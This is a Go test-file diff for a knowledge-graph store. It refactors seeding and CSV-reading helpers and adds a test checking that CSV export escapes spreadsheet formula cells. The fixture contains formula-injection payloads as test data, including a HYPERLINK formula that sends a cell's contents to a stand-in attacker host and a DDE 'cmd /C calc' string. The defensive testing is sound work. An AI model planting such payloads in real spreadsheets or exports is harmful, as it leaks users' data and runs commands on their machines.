@@ -27,20 +27,13 @@ import (
 // reliability grade, a copy of a source, a dated source, disputing and graded evidence.
 func seeded(t *testing.T) *store.Graph {
 	t.Helper()
-	g := storetest.MustGraph(t)
-	set, err := seed.Bundled()
-	if err != nil {
-		t.Fatal(err)
-	}
+	g := storetest.MustSeeded(t)
 	ctx := context.Background()
-	if _, err := seed.Import(ctx, g, set, seed.Options{}); err != nil {
-		t.Fatal(err)
-	}
 	june := time.Date(2025, 6, 20, 0, 0, 0, 0, time.UTC)
 	text := "Oman lies on the Arabian Peninsula. Oman lies on the Arabian Peninsula, officials repeated."
 	rel := store.Relation{Type: store.RelLocatedIn, From: "oman", To: "arabian-peninsula"}
 	rel.ID = store.RelationID(rel.Type, rel.From, rel.To, rel.Role)
-	_, err = g.Apply(ctx, &store.Batch{
+	_, err := g.Apply(ctx, &store.Batch{
 		Nodes: []store.Node{
 			&store.Actor{EntityBase: store.EntityBase{ID: "wire", Name: "Wire Service"}, Kind: store.ActorMedia, Reliability: store.ReliabilityB},
 			&store.Source{ID: "wire-report", Title: "Profile", Publisher: "wire", PublishedAt: &june, Text: text, Language: "en"},
@@ -228,9 +221,9 @@ func TestJSONLD(t *testing.T) {
 	}
 }
 
-func TestCSV(t *testing.T) {
-	g := seeded(t)
-	out := write(t, g, export.CSV, nil)
+// mustReadCSV reads every table of a CSV export.
+func mustReadCSV(t *testing.T, out []byte) map[string][][]string {
+	t.Helper()
 	zr, err := zip.NewReader(bytes.NewReader(out), int64(len(out)))
 	if err != nil {
 		t.Fatal(err)
@@ -245,6 +238,12 @@ func TestCSV(t *testing.T) {
 			t.Fatalf("%s: %v", f.Name, err)
 		}
 	}
+	return rows
+}
+
+func TestCSV(t *testing.T) {
+	g := seeded(t)
+	rows := mustReadCSV(t, write(t, g, export.CSV, nil))
 	var nodes, relations, evidence int
 	g.Visit(context.Background(), store.Visitor{
 		Node: func(store.Node) error { nodes++; return nil },
@@ -262,6 +261,52 @@ func TestCSV(t *testing.T) {
 		if got := len(rows[name]); got != want+1 || rows[name][0][0] != "id" {
 			t.Errorf("%s: %d rows, want a header and %d", name, got, want)
 		}
+	}
+}
+
+// TestCSVFormulaCells: a cell a spreadsheet would run as a formula is written as text
+// (a single quote in front), wherever it comes from; other cells, and the other
+// formats, keep the stored strings.
+func TestCSVFormulaCells(t *testing.T) {
+	g := storetest.MustGraph(t)
+	ctx := context.Background()
+	hostile := []string{`=HYPERLINK("http://attacker.example/?"&A1,"open")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3", "\t=1+1", "\r=1+1"}
+	text := "Reported: " + strings.Join(hostile, " / ")
+	rel := store.Relation{Type: store.RelAlliedWith, From: "a", To: "b"}
+	rel.ID = store.RelationID(rel.Type, rel.From, rel.To, rel.Role)
+	_, err := g.Apply(ctx, &store.Batch{
+		Nodes: []store.Node{
+			&store.Actor{EntityBase: store.EntityBase{ID: "a", Name: hostile[0], Aliases: hostile[1:2], Description: hostile[3]}, Kind: store.ActorState},
+			&store.Actor{EntityBase: store.EntityBase{ID: "b", Name: "Plain Name", Description: hostile[2]}, Kind: store.ActorState},
+			&store.Source{ID: "s", Title: hostile[4], URL: "https://example.org/s", Text: text, Language: "en"},
+		},
+		Relations: []store.Relation{rel},
+		Evidence:  []store.Evidence{{Subject: rel.ID, Source: "s", Quote: hostile[0], Confidence: 0.5, Method: hostile[5], Note: hostile[1]}},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows := mustReadCSV(t, write(t, g, export.CSV, nil))
+	escaped := map[string]bool{}
+	for name, table := range rows {
+		for _, row := range table {
+			for _, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s: cell %q would run as a formula", name, cell)
+				}
+				if rest, ok := strings.CutPrefix(cell, "'"); ok {
+					escaped[rest] = true
+				}
+			}
+		}
+	}
+	for _, h := range append(hostile, "Plain Name") {
+		if escaped[h] == (h == "Plain Name") {
+			t.Errorf("%q: escaped %v", h, escaped[h])
+		}
+	}
+	if seedExport := string(write(t, g, export.Seed, nil)); !strings.Contains(seedExport, `"name":"=HYPERLINK(`) {
+		t.Errorf("the seed export changed a stored name:\n%s", seedExport)
 	}
 }
 
